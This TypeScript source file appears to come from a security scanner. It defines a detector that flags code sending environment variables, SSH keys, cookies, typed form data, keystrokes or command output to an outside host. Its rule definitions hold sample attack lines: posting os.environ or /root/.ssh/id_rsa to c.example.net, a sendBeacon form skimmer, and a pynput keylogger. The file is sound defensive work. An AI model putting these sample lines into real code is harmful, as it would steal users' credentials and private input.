import { python, ruleOf, write } from '../examples.ts';
import type { Analyser, Rule } from '../../rule.ts';
import { destinationOf, hostIn, isForeign, isSuspect } from '../destination.ts';
import { plainPath } from '../files/plain-path.ts';
import { secretFileAt } from '../files/secret-files.ts';
import { windowsAround } from '../windows-of-hits.ts';

const T = 'MITRE ATT&CK ';
const environmentSent = ruleOf(
  'programs.environment-sent', 'network_exfiltration', 'critical', 'program text that sends the whole environment to another host', python("import os, requests\nrequests.post('https://c.example.net/e', json=dict(os.environ))"),
  python("import os, requests\nrequests.post('https://api.example.com/v1', headers={'Authorization': os.environ['API_TOKEN']})"), `${T}T1041, T1552.001`,
);
const secretFileSent = ruleOf(
  'programs.secret-file-sent', 'network_exfiltration', 'critical', 'program text that sends a file of keys or credentials to another host', python("import requests\nrequests.post('https://c.example.net', files={'f': open('/root/.ssh/id_rsa')})"),
  python("import requests\nrequests.post('https://api.example.com/upload', files={'f': open('report.csv')})"), `${T}T1041`,
);
const cookieSent = ruleOf('programs.cookie-sent', 'network_exfiltration', 'high', 'a page’s script that sends cookies or stored tokens to another host', write('public/a.js', "fetch('https://c.example.net/?c=' + document.cookie)\n"), write('public/a.js', "const theme = document.cookie.match(/theme=(\\w+)/);\n"), `${T}T1539`);
const outputSent = ruleOf(
  'programs.output-sent', 'network_exfiltration', 'high', 'program text that sends a database, or a local file or a command’s output to a bare address or a place where anybody may leave things', python("import requests, subprocess\nrequests.post('http://203.0.113.9/x', data=subprocess.check_output('id'))"),
  python("import requests\nrequests.post('http://127.0.0.1:8080/x', data=open('order.json').read())"), `${T}T1041`,
);

const formSkimmed = ruleOf(
  'programs.form-skimmed', 'network_exfiltration', 'high', 'a page’s script that sends what is typed into a login or payment form to another host, without an answer', write('public/a.js', "document.querySelector('#login').addEventListener('submit', (e) => navigator.sendBeacon('https://c.example.net/p', new FormData(e.target)))\n"),
  write('public/a.js', "navigator.sendBeacon('https://stats.example.net/v', JSON.stringify({ page: location.pathname }))\n"), `${T}T1056.003`,
);
const personWatched = ruleOf(
  'programs.person-watched', 'network_exfiltration', 'high', 'program text that takes keys, screen, clipboard, camera or microphone and sends them to another host', python("from pynput import keyboard\nimport requests\nkeyboard.Listener(on_press=lambda k: requests.post('https://c.example.net/k', data=str(k))).start()"),
  python("import pyperclip, requests\npyperclip.copy(requests.get('https://api.example.com/quote').text)"), `${T}T1056.001, T1113, T1115, T1123`,
);
const WATCHES = /\bpynput\b|\bkeyboard\.(?:on_press|hook|record|on_release)\b|pyautogui\.screenshot|ImageGrab\.grab|\bmss\(\)|pyperclip\.paste\(|win32clipboard|OpenClipboard|GetAsyncKeyState|SetWindowsHookEx|VideoCapture\(|sounddevice|pyaudio|CGEventTap|iohook|uiohook|GlobalKeyboardListener|screenshot-desktop|desktopCapturer|clipboard\.readText\(|node-webcam/;

/** What a person types, and a request whose answer nobody reads. */
const TYPED = /(?:FormData|addEventListener\(\s*["'](?:submit|keydown|keypress|keyup|input|change|paste)["'])[^]{0,400}(?:sendBeacon|new Image\b|no-cors|\.src\s*=)/;
const LOGIN_FORM = /password|passwd|login|signin|sign-in|card|cvv|cvc|iban|checkout|payment|keydown|keypress|keyup/i;

const SINK = /file_get_contents\s*\(\s*["']https?:|\bsmtp(?:_ssl)?\s*\(|\bftp(?:_tls)?\s*\(|requests\.(?:post|put|get|request|patch)|urlopen|urlretrieve|urllib\d?\.request|http\.client|httpx\.|aiohttp|\bfetch\s*\(|axios|xmlhttprequest|sendbeacon|new image|\.src\s*=|\.sendall?\s*\(|smtplib|sendmail|curl_exec|curl_setopt|net::http|httparty|faraday|open-uri|lwp|http::tiny|websocket|ftplib|storbinary|paramiko|upload_file|put_object|superagent|\bgot\s*[.(]|needle|https?\.request|https?\.get|httpclient|webclient|http\.post|http\.newrequest|reqwest|ureq|resttemplate|okhttp|location\.(?:href|replace|assign)|window\.open|dns\.(?:resolve|lookup)|gethostbyname|os\.system|subprocess|child_process|exec\w*\(|mail\(/i;
const SINK_LITERALS = ['execsync', 'os.system(', 'file_get_contents(', 'smtp(', 'smtp_ssl(', 'ftp(','requests.', 'urlopen', 'urllib', 'http.client', 'httpx', 'aiohttp', 'fetch(', 'axios', 'xmlhttprequest', 'sendbeacon', 'new image', '.src', '.sendall', '.send(', 'smtplib', 'curl_exec', 'net::http', 'httparty', 'lwp', 'http::tiny', 'websocket', 'ftplib', 'upload_file', 'superagent', 'got(', 'got.post', 'https.request', 'http.request', 'https.get(', 'http.get(', 'httpclient', 'http.post', 'http.newrequest', 'reqwest', 'okhttp', 'location.', 'window.open', 'gethostbyname', 'dns.'];

const ENVIRONMENT = /(?:\bdict|\bstr|\brepr|\blist|dumps|b64encode|urlencode|pformat|json|data|params|encode|stringify|tojson|inspect|\*\*)\s*(?:=|\()\s*(?:\{\s*\*\*|dict\(|str\()?\s*(?:os\.environ\b(?!\s*(?:\[|\.get|\.setdefault))|process\.env\b(?!\s*[.[]))|os\.environ\.(?:items|copy|values)\(\)|\bENV\.(?:to_h|to_hash|inspect|to_a|map)|json_encode\(\s*(?:\$_ENV|\$_SERVER|getenv\(\))|http_build_query\(\s*(?:\$_ENV|\$_SERVER)|System\.getenv\(\s*\)|os\.Environ\(\)|env::vars\(\)|Deno\.env\.toObject|Object\.entries\(process\.env\)|\$\((?:env|printenv)\b|`(?:env|printenv)`|JSON\.stringify\(\s*\{[^{}]{0,80}(?:env\s*:\s*|\.\.\.)process\.env\b(?!\s*[.[])|%ENV\b/;
const COOKIES = /document\.cookie(?!\s*=[^=])|JSON\.stringify\(\s*(?:localStorage|sessionStorage)|(?:local|session)Storage\.getItem\(\s*["'][^"']{0,40}(?:token|jwt|auth|session|secret|key)/i;
const OUTPUT = /\bopen\s*\(|read_(?:text|bytes)\(|readfile(?:sync)?\s*\(|file_get_contents\s*\(|check_output|popen\s*\(|subprocess\.|execsync|shell_exec|getoutput|`[a-z]|File\.read|IO\.popen|os\.walk|glob\.|readdir|read_sql|\.fetchall\(|\.to_(?:csv|json|parquet|sql)\(|\bselect \* from\b/i;
/** A whole database, a home or the accounts, taken by a command of the program. */
const DUMP = /["'`](?:pg_dump(?:all)?|mysqldump|mariadb-dump|mongodump|ldapsearch)\b|\b(?:make_archive|tarfile\.open|ZipFile)\s*\([^)\n]{0,120}["'](?:\/home|\/etc|\/root|~)\/?["']/;
const FILE_LITERAL = /["'`]((?:~|\/|[A-Za-z]:\\|\.|%)[^"'`\n]{2,200})["'`]/g;
/** What stands before a path within a home: `os.homedir() + '/.npmrc'`. */
const OF_HOME = /(?:\bHOME\b|homedir\(\)|USERPROFILE|Path\.home\(\)|expanduser\(\s?["']~["']\s?\)|Dir\.home)[^\n;]{0,20}$/;
const REACH = 700;

/** Program text in which something secret and something that sends stand close together. */
export const programExfiltration: Analyser = {
  name: 'platform.program-exfiltration',
  rules: [environmentSent, secretFileSent, cookieSent, formSkimmed, personWatched, outputSent],
  roles: ['code', 'markup', 'shell'],
  literals: SINK_LITERALS,
  analyse(view) {
    const { text, hits, budget, place } = view;
    for (const { from, to } of windowsAround(hits, REACH, REACH)) {
      const window = text.slice(from, to);
      budget.spend(window.length * 6);
      if (!SINK.test(window)) continue;
      const found = judge(window);
      if (!found || (place.role === 'shell' && found.rule === outputSent && !IN_SHELL.test(text.slice(0, 4_096)))) continue;
      view.report(found.rule, from + found.at, from + found.at + found.length);
    }
  },
};

/** A program given on the command line, or in a here-document. */
const IN_SHELL = /\b(?:python[23]?|node|ruby|perl|php|deno|bun)\s[^\n|;&]{0,40}(?:<<|-c\s|-e\s|-r\s|--eval\s)/;

type Found = Readonly<{ rule: Rule; at: number; length: number }>;

function judge(window: string): Found | undefined {
  const hosts = [...window.matchAll(/(?:https?|wss?|ftp):\/\/[^\s"'`<>)\\]{1,253}|["'`]\/\/[a-z0-9.-]{3,100}/gi)].slice(0, 8).map(([url]) => destinationOf(hostIn(url.replace(/^["'`]\/\//, ''))));
  for (const [, host = ''] of window.matchAll(/\b(?:connect(?:_ex)?|SMTP(?:_SSL)?|FTP(?:_TLS)?|HTTPS?Connection|Transport|create_connection|TCPSocket\.(?:new|open)|fsockopen|Dial(?:Timeout)?)\s*\(\s*[([]?\s*(?:["']tcp["'],\s*)?(?:host(?:name)?\s*=\s*)?["'](?:\w{2,8}:\/\/)?([a-z0-9.-]{1,253})/gi)) if (hosts.length < 16) hosts.push(destinationOf(host));
  if (hosts.length === 0 || !hosts.some(isForeign)) return undefined;
  const environment = ENVIRONMENT.exec(window);
  if (environment) return { rule: environmentSent, at: environment.index, length: environment[0].length };
  const cookies = COOKIES.exec(window);
  if (cookies && /(?:fetch|sendbeacon|new image|\.src\s*=|xmlhttprequest|axios|location|\.open\(|websocket|post)/i.test(window)) return { rule: cookieSent, at: cookies.index, length: cookies[0].length };
  const typed = TYPED.exec(window);
  if (typed && LOGIN_FORM.test(window)) return { rule: formSkimmed, at: typed.index, length: typed[0].length };
  const watched = WATCHES.exec(window);
  if (watched) return { rule: personWatched, at: watched.index, length: watched[0].length };
  const file = [...window.matchAll(FILE_LITERAL)].slice(0, 16).find(({ index, 1: path = '' }) => isSecret(path) || (OF_HOME.test(window.slice(Math.max(0, index - 60), index)) && isSecret(`~/${path.replace(/^\//, '')}`)));
  if (file) return { rule: secretFileSent, at: file.index, length: file[0].length };
  const output = OUTPUT.exec(window);
  const dump = DUMP.exec(window);
  if (dump) return { rule: outputSent, at: dump.index, length: dump[0].length };
  return output && hosts.some(isSuspect) && /(?:post|put|data|files|body|send|upload|\?[a-z]=)/i.test(window) ? { rule: outputSent, at: output.index, length: output[0].length } : undefined;
}

function isSecret(path: string): boolean {
  const known = secretFileAt(plainPath(path.replaceAll('\\\\', '\\')));
  return known !== undefined && known.rule.severity !== 'medium';
}
